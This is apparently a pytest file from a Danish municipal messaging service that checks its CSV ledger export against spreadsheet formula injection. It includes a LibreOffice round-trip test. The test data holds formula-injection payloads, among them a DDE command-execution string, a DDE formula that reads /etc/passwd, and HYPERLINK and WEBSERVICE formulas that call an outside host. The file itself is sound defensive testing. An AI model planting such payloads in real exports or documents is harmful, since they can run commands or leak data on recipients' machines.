"""S7: what a spreadsheet opens is text, whatever a citizen wrote."""

import csv
import io
import os
import shutil
import subprocess
from pathlib import Path

import pytest

from messaging.conversations.models import Author
from messaging.conversations.sending import send_message
from messaging.ledger.cells import BYTE_ORDER_MARK, safe_cell, write_table
from messaging.people.actors import SYSTEM
from tests.house import House

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1;1)",
    '"=1+1',
    "';=1+1",
    "a;=1+1",
    'a";=1+1;"',
    'a","=1+1',
    "a,=1+1",
    "a\t=1+1",
    "a\n=1+1",
    "a|=1+1",
    "\x00=1+1",
    '=HYPERLINK("http://example.org/?"&A1;"Klik")',
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("http://example.org")',
    '=DDE("soffice";"/etc/passwd";1)',
    "{=1+1}",
]
NUMBERS = [
    "+4524101921",
    "24101921",
    "24 10 19 21",
    "0045 24101921",
    "(+45) 24101921",
    "00012",
    "1-2",
    "2.3",
    "1/2",
    "10:30",
]
HARMLESS = ["Hej Mette", "Jeg kommer kl. 10", "æøå 😀", "a=b", "e-mail", "mho@kommune.dk", "Ja – tak", "", "5 minutter"]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_begins_a_formula_wherever_it_is_cut(text: str) -> None:
    """S7."""
    line = write_table(["a"], [[text]]).splitlines(keepends=True)[1:]
    pieces = [
        piece for mark in ";,\t|" for row in csv.reader(io.StringIO("".join(line)), delimiter=mark) for piece in row
    ]

    assert [piece for piece in pieces if piece.lstrip()[:1] in set("=+-@＝＋－＠")] == []


@pytest.mark.parametrize("text", NUMBERS)
def test_phones_and_numbers_stay_text(text: str) -> None:
    """S7."""
    assert safe_cell(text).startswith("'")


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_words_stay_as_they_are(text: str) -> None:
    assert safe_cell(text) == text


def test_a_table_is_what_danish_spreadsheets_read() -> None:
    table = write_table(["Tid", "Ord"], [["i dag", 'sagde "hej"; gik']], foot=["Bemærk"])

    assert table == BYTE_ORDER_MARK + '"Tid";"Ord"\r\n"i dag";"sagde ""hej""; gik"\r\n"Bemærk"\r\n'


@pytest.fixture(scope="module")
def spreadsheet() -> str:
    """The spreadsheet of the machine; where it must be there (REQUIRE_BROWSER), its absence is a failure."""
    found = shutil.which("localc") or shutil.which("soffice")
    if found is None and os.environ.get("REQUIRE_BROWSER"):
        pytest.fail("REQUIRE_BROWSER is set and no LibreOffice is installed")
    return found or pytest.skip("no LibreOffice on this machine")


def test_a_spreadsheet_computes_no_cell_of_the_exported_ledger(house: House, spreadsheet: str, tmp_path: Path) -> None:
    """S7: a round trip through LibreOffice: opened as it is and saved with formulas in the place of values."""
    citizen_id = house.citizen(caseworker=house.caseworker())
    texts = [text for text in FORMULAS + NUMBERS if "\x00" not in text]
    with house.runtime.act(SYSTEM) as act:
        for text in texts:
            send_message(act, citizen_id=citizen_id, text=f"{text}", author=Author.SYSTEM)
    exported = house.browser("mho").get(f"/citizens/{citizen_id}/ledger.csv")
    (tmp_path / "ledger.csv").write_bytes(exported.data)
    content = flat_document(spreadsheet, tmp_path)

    assert exported.content_type == "text/csv; charset=utf-8"
    assert content.count('office:value-type="string"') > len(texts) * 6
    assert "table:formula" not in content
    assert 'office:value-type="float"' not in content
    assert "24101921" in content


def flat_document(spreadsheet: str, folder: Path) -> str:
    """Open the table in the spreadsheet as semicolons, UTF-8, everything detected and evaluated that can be."""
    command = [
        spreadsheet,
        "--headless",
        f"-env:UserInstallation=file://{folder}/profile",
        "--infilter=Text - txt - csv (StarCalc):59,34,76,1,,1030,false,true,false,false,false,-1,true",
        "--convert-to",
        "fods",
        "--outdir",
        str(folder),
        str(folder / "ledger.csv"),
    ]
    subprocess.run(command, check=True, capture_output=True, timeout=100)
    return (folder / "ledger.fods").read_text()
